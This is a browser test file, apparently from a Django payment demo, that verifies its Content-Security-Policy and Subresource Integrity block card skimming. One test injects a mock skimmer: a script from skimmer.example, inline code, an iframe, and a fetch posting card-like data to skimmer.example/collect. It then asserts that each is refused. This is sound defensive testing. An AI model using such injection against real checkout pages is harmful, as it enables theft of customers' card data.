"""The Content-Security-Policy and Subresource Integrity in a real browser (PCI DSS v4.0.1
requirement 6.4.3: the payment page runs only the scripts it authorises, each checked).

A purchase from sign-up to paid order, 3-D Secure included, runs under the policy without
a single violation; a skimmer's script, inline code, beacon or frame is refused; a shop
script changed after it was pinned is not run. The Swagger UI page and the admin work
under the same policy. Violations are heard where the browser reports them: the
`securitypolicyviolation` event of every frame, and its console.
"""

from urllib.parse import urlsplit

import pytest
from django.contrib.auth import get_user_model
from playwright.sync_api import expect

from orders.models import Order
from stripedemo.csp import origin_of
from tests.frontend.conftest import DESKTOP, open_page
from tests.frontend.shopper import (
    JUST_PAID,
    THREE_D_SECURE,
    bank_check,
    click_buy,
    complete_authentication,
    enter_card,
    pay_button,
    sign_up,
)
from tests.helpers import PASSWORD

pytestmark = pytest.mark.browser

SKIMMER = "https://skimmer.example"

# In every frame, before any of its own scripts: each violation goes to the test.
LISTEN_FOR_VIOLATIONS = """
document.addEventListener('securitypolicyviolation', (event) => {
  window.reportCspViolation({
    directive: event.effectiveDirective,
    blocked: event.blockedURI,
    page: event.documentURI,
    source: event.sourceFile,
  });
}, true);
"""


class Violations:
    """What the browser refused on a page: policy violations (events) and the console's
    lines about the policy or an integrity check."""

    def __init__(self, page):
        self.events = []
        self.console = []
        page.context.expose_binding(
            "reportCspViolation", lambda source, violation: self.events.append(violation)
        )
        page.context.add_init_script(LISTEN_FOR_VIOLATIONS)
        page.on("console", self._console)

    def _console(self, message):
        text = message.text
        if "Content Security Policy" in text or "integrity" in text:
            self.console.append(text)

    def wait_for(self, page, count, seconds=5):
        """Until `count` violation events have come (they arrive asynchronously)."""
        for _ in range(seconds * 20):
            if len(self.events) >= count:
                return
            page.wait_for_timeout(50)
        raise AssertionError(f"{len(self.events)} violations, not {count}: {self.events}")

    def assert_none(self):
        assert self.events == [], self.events
        assert self.console == [], self.console


def policy_of(response):
    return response.headers.get("content-security-policy", "")


def directives(policy):
    parsed = {}
    for part in policy.split(";"):
        name, *sources = part.split()
        parsed[name] = sources
    return parsed


def test_a_purchase_with_3d_secure_runs_under_the_policy_without_a_violation(page, devstripe):
    violations = Violations(page)

    home = page.goto("/")
    expect(page.get_by_role("heading", name="Small things, paid properly.")).to_be_visible()
    sign_up(page, "csp.shopper@example.com")
    expect(page.get_by_text("Welcome, Sam — your account is ready.")).to_be_visible()
    expect(page.get_by_role("heading", name="Catalog")).to_be_visible()
    popup = click_buy(page, "Stripe Demo Mug")
    enter_card(popup, THREE_D_SECURE)  # devstripe's Stripe.js stand-in drew the card form
    pay_button(popup).click()
    expect(bank_check(page).get_by_role("heading")).to_contain_text("3-D Secure")
    complete_authentication(page)
    expect(page.get_by_role("heading", name=JUST_PAID)).to_be_visible()
    page.get_by_role("link", name="View my orders").click()
    order = Order.objects.get()
    row = page.locator(f'tr[data-order-id="{order.id}"]')
    expect(row.locator(".order-status")).to_have_text("Paid")

    # The page ran under the policy, with Stripe.js (here devstripe's) allowed by it.
    policy = directives(policy_of(home))
    stand_in = origin_of(devstripe.url)
    assert policy["script-src"] == ["'self'", stand_in]
    assert policy["connect-src"] == ["'self'", stand_in]
    assert policy["frame-src"] == [stand_in]
    assert order.status == "PAID"
    violations.assert_none()


def test_a_skimmers_script_beacon_and_frame_are_refused(page):
    violations = Violations(page)
    page.goto("/")
    expect(page.get_by_role("heading", name="Small things, paid properly.")).to_be_visible()

    page.evaluate(
        """(skimmer) => {
          const script = document.createElement('script');
          script.src = `${skimmer}/skim.js`;
          document.head.append(script);
          const inline = document.createElement('script');
          inline.textContent = 'window.skimmed = true;';
          document.head.append(inline);
          fetch(`${skimmer}/collect`, { method: 'POST', body: '4242' }).catch(() => {});
          const frame = document.createElement('iframe');
          frame.src = `${skimmer}/form`;
          document.body.append(frame);
        }""",
        SKIMMER,
    )

    violations.wait_for(page, count=4)
    refused = {(event["directive"], event["blocked"]) for event in violations.events}
    assert refused == {
        ("script-src-elem", f"{SKIMMER}/skim.js"),
        ("script-src-elem", "inline"),
        ("connect-src", f"{SKIMMER}/collect"),
        ("frame-src", SKIMMER),  # a frame's address is reported without its path
    }
    assert page.evaluate("() => window.skimmed") is None


def test_a_shop_script_changed_after_it_was_pinned_is_not_run(page):
    violations = Violations(page)

    def tampered(route):
        original = route.fetch()
        route.fulfill(response=original, body=original.text() + "\nwindow.tampered = true;\n")

    page.route("**/js/app.js", tampered)
    page.goto("/")

    page.wait_for_load_state("load")
    assert page.evaluate("() => window.tampered") is None
    assert page.evaluate("() => Boolean(window.Shop && window.Shop.app)") is False
    expect(page.locator("#main")).not_to_contain_text("Small things, paid properly.")
    assert any("js/app.js" in line and "integrity" in line for line in violations.console)


@pytest.fixture
def admin_user(db):
    return get_user_model().objects.create_superuser(
        username="admin@example.com", email="admin@example.com", password=PASSWORD
    )


def test_the_api_docs_and_the_admin_work_under_the_policy(browser, shop, admin_user):
    page = open_page(browser, shop, DESKTOP)
    violations = Violations(page)

    docs = page.goto("/api/docs/")
    product_list = page.locator("#operations-catalog-product_list")
    product_list.locator(".opblock-summary").click()
    product_list.get_by_role("button", name="Try it out").click()
    product_list.get_by_role("button", name="Execute").click()
    status = product_list.locator(".live-responses-table tbody .response-col_status").first
    expect(status).to_have_text("200")

    login = page.goto("/admin/")
    page.get_by_label("Email address").or_(page.get_by_label("Username")).fill(admin_user.username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("heading", name="Site administration")).to_be_visible()
    page.locator('a[href="/admin/orders/order/"]').first.click()
    expect(page.get_by_role("heading", name="Select order to change")).to_be_visible()

    assert "script-src 'self'" in policy_of(docs) and "script-src 'self'" in policy_of(login)
    assert urlsplit(page.url).path == "/admin/orders/order/"
    page.context.close()
    violations.assert_none()
    assert not page.js_errors, page.js_errors
